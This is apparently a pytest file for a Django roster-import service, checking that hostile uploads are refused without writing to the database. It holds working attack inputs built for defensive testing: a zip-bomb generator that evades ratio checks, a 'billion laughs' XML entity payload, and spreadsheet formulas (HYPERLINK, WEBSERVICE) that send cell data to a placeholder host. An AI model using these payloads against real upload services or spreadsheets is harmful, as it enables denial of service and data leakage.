"""Hostile uploads: each gives a clear error, within bounded memory, and writes nothing.

Every file is generated here in tmp_path, except the password-protected one
(fixtures/roster-password.xlsx, made once by make_fixtures with msoffcrypto-tool).
Files that could make the reader allocate gigabytes are opened in a child
process with an address-space limit, so a failure cannot take the test run down.
"""

from __future__ import annotations

import datetime
import os
import random
import re
import resource
import struct
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path
from xml.etree import ElementTree

import pytest
import xlsxwriter
from django.conf import settings
from django.utils import translation

from vanguard.core.models import AuditEntry
from vanguard.members.models import Member
from vanguard.orgs.models import Organisation
from vanguard.rosters import workbooks
from vanguard.rosters.services import KEEP_PROBLEMS, import_members
from vanguard.rosters.tests.make_fixtures import FIXTURES, roster

pytestmark = pytest.mark.django_db

HEADER = ["姓名", "身份证号", "入党时间"]
VALID = roster(fixed=True)[0]  # 王芳, with a valid ID number


def run(city, path: Path, *, commit: bool, organisation=None):
    with translation.override("en"):
        return import_members(
            path=path, organisation=organisation or city.branch_a, user=city.secretary_a, commit=commit
        )


def db_state() -> tuple:
    return Member.objects.count(), AuditEntry.objects.count(), Organisation.objects.count()


def assert_refused(city, path: Path, *words: str) -> str:
    """A dry run names one problem on row 0 saying `words`; a commit writes nothing. Returns the message."""
    before = db_state()
    dry = run(city, path, commit=False)
    assert [p.row for p in dry.problems] == [0], dry.problems
    message = dry.problems[0].message
    for word in words:
        assert word.lower() in message.lower(), message
    assert dry.committed is False and dry.created == 0
    real = run(city, path, commit=True)
    assert [(p.row, p.message) for p in real.problems] == [(0, message)]
    assert real.committed is False and (real.created, real.updated) == (0, 0)
    assert db_state() == before
    return message


# --- not a spreadsheet -----------------------------------------------------------


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    pixels = zlib.compress(b"\x00\xff\x00\x00" * 4)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 4, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", pixels)
        + chunk(b"IEND", b"")
    )


def _docx(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("word/document.xml", "<w:document>姓名 身份证号 入党时间</w:document>")


NOT_SPREADSHEETS = {
    "random.xlsx": lambda p: p.write_bytes(random.Random(1).randbytes(64 * 1024)),
    "photo.png": lambda p: p.write_bytes(_png()),
    "scan.pdf": lambda p: p.write_bytes(
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Length 64 /Filter /FlateDecode >>\nstream\n"
        + zlib.compress(b"BT /F1 12 Tf (roster) Tj ET" * 40)
        + b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    ),
    "letter.docx": _docx,
    "truncated.xlsx": lambda p: p.write_bytes(b"PK\x03\x04" + b"\x00" * 200),
}


@pytest.mark.parametrize("name", list(NOT_SPREADSHEETS))
def test_not_a_spreadsheet(city, tmp_path, name):
    path = tmp_path / name
    NOT_SPREADSHEETS[name](path)
    message = assert_refused(city, path)
    assert re.search(r"not a spreadsheet|damaged|neither UTF-8 nor GB18030|No header row", message), message


def test_web_page_saved_as_xls(city, tmp_path):
    """Many systems export "Excel" files that are HTML tables; one is refused, not half-read."""
    path = tmp_path / "导出.xls"
    cells = "".join(f"<td>{h}</td>" for h in HEADER)
    path.write_text(f"<html><body><table><tr>{cells}</tr></table></body></html>", encoding="utf-8")
    assert_refused(city, path, "No header row")


def test_empty_file(city, tmp_path):
    path = tmp_path / "empty.xlsx"
    path.write_bytes(b"")
    assert_refused(city, path, "empty")


def test_utf16_text_is_refused(city, tmp_path):
    path = tmp_path / "unicode.txt"
    path.write_text("\t".join(HEADER) + "\n", encoding="utf-16")
    assert_refused(city, path, "not a spreadsheet")


def test_password_protected(city):
    assert_refused(city, FIXTURES / "roster-password.xlsx", "password")


# --- zip bombs --------------------------------------------------------------------

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="xl/workbook.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="worksheets/sheet1.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/></Relationships>'
)
_XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>'
_SHEET_OPEN = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
_SHEET_HEAD = _XML_DECLARATION + _SHEET_OPEN
_SHEET_TAIL = "</sheetData></worksheet>"
_PACKAGE = {
    "[Content_Types].xml": _CONTENT_TYPES,
    "_rels/.rels": _RELS,
    "xl/workbook.xml": _WORKBOOK,
    "xl/_rels/workbook.xml.rels": _WORKBOOK_RELS,
}


def _inline_row(number: int, values: list[str]) -> str:
    cells = "".join(f'<c t="inlineStr"><is><t>{value}</t></is></c>' for value in values)
    return f'<row r="{number}">{cells}</row>'


def minimal_xlsx(path: Path, rows: list[list[str]], prolog: str = "") -> Path:
    """An .xlsx with inline strings, written by hand (XlsxWriter refuses cells over 32,767 characters).

    `prolog` replaces the XML declaration (to add a DOCTYPE).
    """
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in _PACKAGE.items():
            archive.writestr(name, data)
        body = "".join(_inline_row(i, row) for i, row in enumerate(rows, start=1))
        archive.writestr("xl/worksheets/sheet1.xml", (prolog or _XML_DECLARATION) + _SHEET_OPEN + body + _SHEET_TAIL)
    return path


def _raw_deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def bomb_xlsx(path: Path, *, head: bytes, chunk: bytes, repeats: int, tail: bytes, padding: int = 0) -> int:
    """An .xlsx whose sheet XML is `head + chunk * repeats + tail`; returns the sheet's unpacked size.

    The deflate stream is built without compressing the whole: after a full
    flush every copy of `chunk` compresses to the same bytes, so one compressed
    copy is written `repeats` times.  Headers are honest (sizes and CRC are
    those of the real content).  `padding` bytes of stored random data lower
    the archive's overall compression ratio, as a bomb maker would.
    """
    members = []
    for name, data in _PACKAGE.items():
        raw = data.encode()
        packed = _raw_deflate(raw)
        members.append((name, 8, [packed], zlib.crc32(raw), len(packed), len(raw)))
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    piece = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    last = compressor.compress(tail) + compressor.flush()
    crc = zlib.crc32(head)
    for _ in range(repeats):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    parts = [first, *[piece] * repeats, last]
    size = len(head) + len(chunk) * repeats + len(tail)
    assert size < 2**32, "keep under the zip64 threshold"
    members.append(("xl/worksheets/sheet1.xml", 8, parts, crc, sum(map(len, parts)), size))
    if padding:
        noise = random.Random(2).randbytes(padding)
        members.append(("xl/media/image1.png", 0, [noise], zlib.crc32(noise), padding, padding))
    with path.open("wb") as out:
        central = []
        for name, method, chunks, member_crc, packed, unpacked in members:
            encoded = name.encode()
            offset = out.tell()
            out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, member_crc, packed,
                                  unpacked, len(encoded), 0) + encoded)  # fmt: skip
            for data in chunks:
                out.write(data)
            central.append(
                struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, member_crc, packed,
                            unpacked, len(encoded), 0, 0, 0, 0, 0, offset) + encoded
            )  # fmt: skip
        start = out.tell()
        for entry in central:
            out.write(entry)
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start, start, 0))
    return size


_PROBE = """
import os, resource, sys
limit = int(sys.argv[2]) << 20
resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
import django
django.setup()
from django.utils import translation
from vanguard.core.spreadsheets import SpreadsheetError, open_sheets
translation.activate("en")
try:
    for sheet in open_sheets(sys.argv[1]):
        for row in sheet.rows:
            pass
except SpreadsheetError as exc:
    print("REFUSED:", exc)
else:
    print("READ")
print("PEAK_MB:", resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
"""


def probe(path: Path, limit_mb: int = 1536, timeout: int = 60) -> subprocess.CompletedProcess:
    """open_sheets on `path` in a child process limited to `limit_mb` of address space."""
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "vanguard.test_settings", "RUST_BACKTRACE": "0"}
    return subprocess.run(
        [sys.executable, "-c", _PROBE, str(path), str(limit_mb)],
        capture_output=True, text=True, timeout=timeout, cwd=settings.BASE_DIR, env=env,
    )  # fmt: skip


def _assert_probe_refused(result: subprocess.CompletedProcess, *words: str) -> None:
    assert result.returncode == 0, f"the reader died (exit {result.returncode}): {result.stderr[-500:]}"
    assert "REFUSED:" in result.stdout, result.stdout
    for word in words:
        assert word in result.stdout, result.stdout


def test_zip_bomb(city, tmp_path):
    """3.3 GB of sheet XML in a 3.4 MB file: refused from the zip directory, before anything is unpacked."""
    path = tmp_path / "花名册.xlsx"
    size = bomb_xlsx(
        path,
        head=(_SHEET_HEAD + _inline_row(1, HEADER)).encode(),
        chunk=b" " * 2**20,
        repeats=3300,
        tail=_SHEET_TAIL.encode(),
    )
    assert size > 3 * 2**30 and path.stat().st_size < 4 * 2**20
    _assert_probe_refused(probe(path), "expand")
    assert_refused(city, path, "expand", "not a normal spreadsheet")


def test_zip_bomb_padded_with_incompressible_data(tmp_path):
    path = tmp_path / "花名册.xlsx"
    size = bomb_xlsx(
        path,
        head=(_SHEET_HEAD + _inline_row(1, HEADER) + '<row r="2"><c t="inlineStr"><is><t>').encode(),
        chunk=b"x" * 2**20,
        repeats=2048,
        tail=("</t></is></c></row>" + _SHEET_TAIL).encode(),
        padding=11 * 2**20,
    )
    with zipfile.ZipFile(path) as archive:
        infos = archive.infolist()
    assert sum(i.file_size for i in infos) / sum(i.compress_size for i in infos) < 200  # passes the ratio check
    assert size < 3 * 2**30 and path.stat().st_size < 14 * 2**20
    _assert_probe_refused(probe(path), "expand")


def test_xml_entity_expansion(city, tmp_path):
    """A "billion laughs" DOCTYPE in the sheet XML is not expanded."""
    expansions = ["lol" * 10] + [f"&lol{i - 1};" * 10 for i in range(2, 10)]
    entities = "".join(f'<!ENTITY lol{i} "{value}">' for i, value in enumerate(expansions, start=1))
    path = minimal_xlsx(
        tmp_path / "laughs.xlsx",
        [[*HEADER], ["&lol9;", VALID.id_number, "2005-01-05"]],
        prolog=f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE lolz [{entities}]>',
    )
    with zipfile.ZipFile(path) as archive:  # well-formed: the refusal is about the entity, not the syntax
        ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml").replace(b"&lol9;", b"x"))
    _assert_probe_refused(probe(path))
    assert_refused(city, path, "cannot be read")


# --- 100,000 bad rows ----------------------------------------------------------------


def _peak_rss_reset() -> bool:
    try:
        with open("/proc/self/clear_refs", "w") as handle:  # Linux: "5" resets VmHWM to the current RSS
            handle.write("5")
        return True
    except OSError:
        return False


def _peak_rss_kb() -> int:
    try:
        with open("/proc/self/status") as handle:
            return int(re.search(r"VmHWM:\s+(\d+)", handle.read()).group(1))
    except (OSError, AttributeError):
        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss


def test_100000_bad_rows(city, tmp_path):
    """Every row lacks a name: all are counted, the first KEEP_PROBLEMS listed, memory stays bounded."""
    path = tmp_path / "十万行.csv"
    line = f",{VALID.id_number},2005-01-05\n"
    with path.open("w", encoding="utf-8") as handle:
        handle.write(",".join(HEADER) + "\n")
        handle.write(line * 100_000)
    before = db_state()
    _peak_rss_reset()
    start_kb = _peak_rss_kb()
    started = datetime.datetime.now()
    report = run(city, path, commit=True)
    elapsed = (datetime.datetime.now() - started).total_seconds()
    grew_mb = (_peak_rss_kb() - start_kb) / 1024
    assert report.problem_count == 100_000
    assert len(report.problems) == KEEP_PROBLEMS
    assert report.problems[0].row == 2 and report.problems[-1].row == KEEP_PROBLEMS + 1
    assert all(p.column == "A" and "empty" in p.message for p in report.problems)
    assert report.rows_read == 100_000
    assert report.committed is False and report.created == 0
    assert db_state() == before
    assert grew_mb < 300, f"peak RSS grew by {grew_mb:.0f} MB"
    assert elapsed < 60, f"{elapsed:.0f} s"


# --- formulas and huge cells ---------------------------------------------------------


def test_formulas_use_the_values_the_office_suite_saved(city, tmp_path):
    """Formula cells are read by their cached values; the formulas themselves are never evaluated."""
    path = tmp_path / "公式.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet()
    date = book.add_format({"num_format": "yyyy-mm-dd"})
    sheet.write_row(0, 0, [*HEADER, "联系电话"])
    sheet.write_formula(1, 0, '=CONCATENATE("王","芳")', None, "王芳")
    sheet.write_formula(1, 1, f'="{VALID.id_number}"', None, VALID.id_number)
    sheet.write_formula(1, 2, "=DATE(1990,7,1)", date, 33055)
    sheet.write_formula(1, 3, '=WEBSERVICE("http://example.invalid/"&B2)', None, "13908310001")
    book.close()
    report = run(city, path, commit=True)
    assert report.problems == [] and report.committed, report.problems
    member = Member.objects.get(name="王芳", organisation=city.branch_a)
    assert (member.joined_on, member.phone) == (datetime.date(1990, 7, 1), "13908310001")


def test_formulas_without_saved_values_are_named(city, tmp_path):
    """Files written by tools that never calculate hold 0 for every formula: each such cell is a problem."""
    path = tmp_path / "公式.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, HEADER)
    sheet.write_row(1, 0, ["王芳", "", "1990-07-01"])
    sheet.write_formula(1, 1, f'="{VALID.id_number}"')  # cached 0: "An ID number has 18 characters"
    sheet.write_row(2, 0, ["李明", roster(fixed=True)[1].id_number])
    sheet.write_formula(2, 2, "=DATE(1978,6,12)", book.add_format({"num_format": "yyyy-mm-dd"}))  # 0: a time
    book.close()
    before = db_state()
    report = run(city, path, commit=True)
    assert {(p.row, p.column) for p in report.problems} == {(2, "B"), (3, "C")}, report.problems
    assert report.committed is False and db_state() == before


def test_text_that_looks_like_a_formula_stays_text_on_export(city, tmp_path):
    source = tmp_path / "r.csv"
    payload = '=HYPERLINK("http://example.invalid/?"&A4,"点此核对")'
    quoted = payload.replace('"', '""')
    source.write_text(f'{",".join(HEADER)},工作单位\n王芳,{VALID.id_number},1990-07-01,"{quoted}"\n', "utf-8")
    report = run(city, source, commit=True)
    assert report.committed, report.problems
    assert Member.objects.get(name="王芳", organisation=city.branch_a).work_unit == payload
    exported = tmp_path / "export.xlsx"
    workbooks.export_members(organisation=city.branch_a, user=city.secretary_a, path=exported)
    with zipfile.ZipFile(exported) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml


def test_megabyte_cell_in_xlsx_is_named(city, tmp_path):
    letters = random.Random(3)
    big = "".join(letters.choices("甲乙丙丁戊己庚辛壬癸abcdefghij", k=2**20))  # random: no zip-ratio alarm
    path = minimal_xlsx(tmp_path / "大单元格.xlsx", [["花名册"], HEADER, ["王芳", VALID.id_number, "2005-01-05"],
                                                     ["李明", big, "2005-01-05"]])  # fmt: skip
    message = assert_refused(city, path, "B4", "characters")
    assert str(2**20) in message.replace(",", "")


def test_megabyte_cell_in_csv_is_named(city, tmp_path):
    path = tmp_path / "大单元格.csv"
    path.write_text(f"{','.join(HEADER)}\n王芳,{VALID.id_number},2005-01-05\n李明,{'x' * 2**20},2005-01-05\n", "utf-8")
    message = assert_refused(city, path, "B3")
    assert "field limit" not in message


# --- too many sheets, too many columns ------------------------------------------------


def test_fifty_sheets(city, tmp_path):
    path = tmp_path / "五十张表.xlsx"
    book = xlsxwriter.Workbook(str(path))
    for number in range(50):
        sheet = book.add_worksheet(f"第{number + 1}支部")
        sheet.write_row(0, 0, HEADER)
    book.close()
    assert_refused(city, path, "50 sheets")


def test_too_many_columns(city, tmp_path):
    path = tmp_path / "宽表.csv"
    path.write_text(",".join(HEADER + [f"备注{i}" for i in range(200)]) + "\n", "utf-8")
    assert_refused(city, path, "203 columns")


def test_too_many_columns_in_xlsx(city, tmp_path):
    path = tmp_path / "宽表.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, HEADER)
    sheet.write_string(0, 16000, "备注")
    book.close()
    assert_refused(city, path, "columns")
